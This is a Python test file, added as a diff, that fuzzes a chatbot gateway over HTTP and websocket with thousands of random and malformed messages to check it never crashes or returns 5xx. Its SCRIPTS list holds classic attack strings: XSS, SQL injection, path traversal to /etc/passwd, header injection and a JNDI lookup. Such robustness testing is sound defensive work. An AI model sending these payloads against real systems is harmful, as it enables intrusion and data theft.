@@ -1,0 +1,201 @@
+"""Hostile input: 10,000+ generated messages over HTTP and websocket against a real gateway (uvicorn).
+
+Rasa is down (a closed port) so the gateway's own handling is what is tested: random unicode, lone
+surrogates, 100 KB texts, control characters, HTML and script, SQL-looking strings, malformed JSON,
+wrong types, invalid UTF-8 and binary frames. No answer may be a 5xx, no websocket may end in an
+internal error, the server logs no unhandled exception, and it still answers afterwards.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import logging
+import random
+import time
+from collections import Counter
+from collections.abc import Iterator
+
+import httpx
+import pytest
+import websockets
+
+from bot.config import Settings
+from tests.gateway_server import down_url, running_gateway
+
+HTTP_MESSAGES = 5200
+SOCKETS = 20
+FRAMES_PER_SOCKET = 250  # 5,000 websocket frames
+SEED = 7
+SENTINEL_TICKET = 987_654_321  # no such ticket: the last frame of each socket is refused with this id
+
+SCRIPTS = ["<img src=x onerror=alert(1)>", "<script>alert(document.cookie)</script>", "\"><svg onload=alert(1)>",
+           "javascript:alert(1)", "<iframe src=//evil.example>", "{{7*7}}${7*7}<%= 7*7 %>", "../../etc/passwd",
+           "%00%0d%0aSet-Cookie: x=1", "\u202eevil\u202c", "' OR '1'='1' --", "1; DROP TABLE orders;--",
+           "\" UNION SELECT password_hash FROM users --", "NW-100234' AND SLEEP(5)--", "${jndi:ldap://x/a}",
+           "Robert'); DELETE FROM customers;--", "%s%s%s%n", "\\x00\\u0000", "nan", "null", "[]", "{}"]
+
+
+def random_text(rng: random.Random) -> str:
+    kind = rng.randrange(8)
+    if kind == 0:  # any code point, lone surrogates included
+        return "".join(chr(rng.randrange(0x110000)) for _ in range(rng.randrange(1, 200)))
+    if kind == 1:
+        return "".join(chr(rng.randrange(32)) for _ in range(rng.randrange(1, 60))) + "x"
+    if kind == 2:
+        return rng.choice(SCRIPTS)
+    if kind == 3:
+        return rng.choice(SCRIPTS) * rng.randrange(1, 60)
+    if kind == 4:  # emoji, combining marks, RTL, zero-width
+        return "".join(rng.choice("😀👍🏽\u0301\u200b\u200f\ufeffمرحبا你好ÅßЖ") for _ in range(rng.randrange(1, 300)))
+    if kind == 5:
+        return "x" * 100_000
+    if kind == 6:
+        return " " * rng.randrange(1, 50)
+    return rng.choice(["where is my order", "red shoes under 50", "refund?", "hi"]) + chr(rng.randrange(0x80, 0x800))
+
+
+def conversation_id(rng: random.Random) -> object:
+    return rng.choice([f"hostile-{rng.randrange(10**6):06d}", "", "x", "a" * 500, "../../etc", "id with space",
+                       "<script>", 12345, None, ["list"], "hostile-" + "é" * 10])
+
+
+def http_body(rng: random.Random) -> tuple[bytes, str]:
+    """A request body and its content type: mostly valid JSON with hostile values, some broken on purpose."""
+    kind = rng.randrange(10)
+    if kind <= 4:
+        body: object = {"conversation_id": conversation_id(rng) if rng.random() < 0.3 else
+                        f"hostile-{rng.randrange(10**6):06d}", "text": random_text(rng)}
+        if rng.random() < 0.2:
+            body["metadata"] = rng.choice([{"customer_id": 1, "segment": "vip"}, "x", [1, 2], {"a": {"b": [None]}}])
+        if rng.random() < 0.1:
+            body["token"] = rng.choice(["", "x.y.z", "e" * 5000, 42])
+        return json.dumps(body).encode(), "application/json"
+    if kind == 5:  # wrong types
+        return json.dumps(rng.choice([
+            {"conversation_id": "hostile-000001", "text": 42}, {"conversation_id": True, "text": ["a"]},
+            {"conversation_id": "hostile-000001", "text": None}, [1, 2, 3], "just a string", 7, None,
+            {"conversation_id": "hostile-000001", "text": {"nested": "x"}}])).encode(), "application/json"
+    if kind == 6:  # malformed JSON
+        return rng.choice([b"{", b'{"conversation_id": "hostile-000001", "text": "a"', b"\x00\x01\x02", b"",
+                           b'{"text": "\\ud800"}', b"[" * 5000 + b"]" * 5000, b'{"a":' * 3000,
+                           b'{"conversation_id": "hostile-000001", "text": "\xff\xfe"}']), "application/json"
+    if kind == 7:  # invalid UTF-8 / random bytes
+        return bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400))), "application/json"
+    if kind == 8:  # the wrong content type
+        return b"conversation_id=hostile-000001&text=hi", rng.choice(["application/x-www-form-urlencoded",
+                                                                        "text/plain", "multipart/form-data"])
+    return json.dumps({"conversation_id": "hostile-000001", "text": random_text(rng)}).encode(), "application/json"
+
+
+def ws_frame(rng: random.Random) -> str | bytes:
+    kind = rng.randrange(9)
+    if kind <= 3:
+        return json.dumps({"type": rng.choice(["message", "message", "hello", "rating", "x", ""]),
+                           "text": random_text(rng), **({"payload": random_text(rng)} if rng.random() < 0.2 else {})})
+    if kind == 4:
+        return json.dumps(rng.choice([{"type": 5}, {"type": "message", "text": 7}, {"type": "rating", "ticket_id": -1,
+                                      "rating": 99}, {"type": "hello", "token": "x.y.z"}, [], "s", None,
+                                      {"type": "message", "text": ["a"]}, {"type": "rating", "ticket_id": 10**30}]))
+    if kind == 5:
+        return rng.choice(["{", "", "null", "[" * 3000, '{"type": "message", "text": "\\udc00"}', "\x00"])
+    if kind == 6:
+        return bytes(rng.randrange(256) for _ in range(rng.randrange(1, 300)))
+    if kind == 7:
+        return json.dumps({"type": "message", "text": "y" * 100_000})
+    return "".join(chr(rng.randrange(0xD800)) for _ in range(rng.randrange(1, 100)))
+
+
+class Errors(logging.Handler):
+    """Collects ERROR records of the server (an unhandled exception in a request is logged so)."""
+
+    def __init__(self) -> None:
+        super().__init__(logging.ERROR)
+        self.records: list[logging.LogRecord] = []
+
+    def emit(self, record: logging.LogRecord) -> None:
+        self.records.append(record)
+
+
+@pytest.fixture(scope="module")
+def gateway(catalog: int) -> Iterator[str]:
+    down = down_url()
+    settings = Settings(rasa_url=down, actions_url=down, rasa_timeout_s=2.0, rate_limit_per_conversation="off",
+                        rate_limit_per_address="off")
+    with running_gateway(settings) as url:
+        yield url
+
+
+@pytest.fixture
+def server_errors() -> Iterator[Errors]:
+    handler = Errors()
+    loggers = [logging.getLogger(n) for n in ("uvicorn.error", "uvicorn", "bot", "")]
+    for logger in loggers:
+        logger.addHandler(handler)
+    yield handler
+    for logger in loggers:
+        logger.removeHandler(handler)
+
+
+def test_hostile_http_and_websocket_messages_get_no_5xx_and_no_crash(gateway: str, server_errors: Errors) -> None:
+    rng = random.Random(SEED)
+    bodies = [http_body(rng) for _ in range(HTTP_MESSAGES)]
+    frames = [[ws_frame(rng) for _ in range(FRAMES_PER_SOCKET)] for _ in range(SOCKETS)]
+    statuses: Counter[int] = Counter()
+    closes: Counter[str] = Counter()
+    started = time.perf_counter()
+
+    async def post_all() -> None:
+        queue: asyncio.Queue[tuple[bytes, str]] = asyncio.Queue()
+        for item in bodies:
+            queue.put_nowait(item)
+        async with httpx.AsyncClient(base_url=gateway, timeout=30) as client:
+            async def worker() -> None:
+                while not queue.empty():
+                    body, content_type = queue.get_nowait()
+                    response = await client.post("/api/chat", content=body, headers={"content-type": content_type})
+                    statuses[response.status_code] += 1
+            await asyncio.gather(*(worker() for _ in range(16)))
+
+    async def socket(n: int) -> None:
+        url = gateway.replace("http://", "ws://") + f"/ws/chat?conversation_id=hostile-ws-{n:05d}"
+        async with websockets.connect(url, max_size=None) as ws:
+            identities = 0
+
+            async def drain() -> None:
+                nonlocal identities
+                async for raw in ws:
+                    frame = json.loads(raw)
+                    if frame.get("type") == "identity":
+                        identities += 1
+                    if frame.get("type") == "rating_refused" and frame.get("ticket_id") == SENTINEL_TICKET:
+                        return  # the answer to the last frame: everything before it was handled
+
+            reading = asyncio.create_task(drain())
+            for frame in frames[n]:
+                await ws.send(frame)
+            await ws.send(json.dumps({"type": "hello"}))  # still answers after all that
+            await ws.send(json.dumps({"type": "rating", "ticket_id": SENTINEL_TICKET, "rating": 3}))
+            while not reading.done():
+                await asyncio.wait([reading], timeout=60)
+                if not reading.done():
+                    raise AssertionError(f"socket {n}: no answer to the last message")
+            closes["open" if identities >= 1 else "no identity"] += 1
+
+    async def run() -> None:
+        await asyncio.gather(post_all(), *(socket(n) for n in range(SOCKETS)))
+
+    asyncio.run(run())
+    elapsed = time.perf_counter() - started
+    print(f"\nhostile input: {HTTP_MESSAGES} HTTP + {SOCKETS * FRAMES_PER_SOCKET} websocket messages in "
+          f"{elapsed:.1f}s; HTTP statuses {dict(sorted(statuses.items()))}")
+    assert sum(statuses.values()) == HTTP_MESSAGES
+    assert not [s for s in statuses if s >= 500], statuses
+    assert set(statuses) <= {200, 400, 401, 413, 415, 422}, statuses
+    assert closes == Counter({"open": SOCKETS})
+    health = httpx.get(gateway + "/healthz", timeout=10)
+    assert health.status_code == 503 and health.json()["checks"]["database"]["ok"] is True  # Rasa is down
+    assert httpx.post(gateway + "/api/chat", json={"conversation_id": "hostile-after-1", "text": "hi"},
+                      timeout=10).status_code == 200
+    unexpected = [r for r in server_errors.records if "Exception" in r.getMessage() or r.exc_info]
+    assert not unexpected, [r.getMessage() for r in unexpected[:5]]
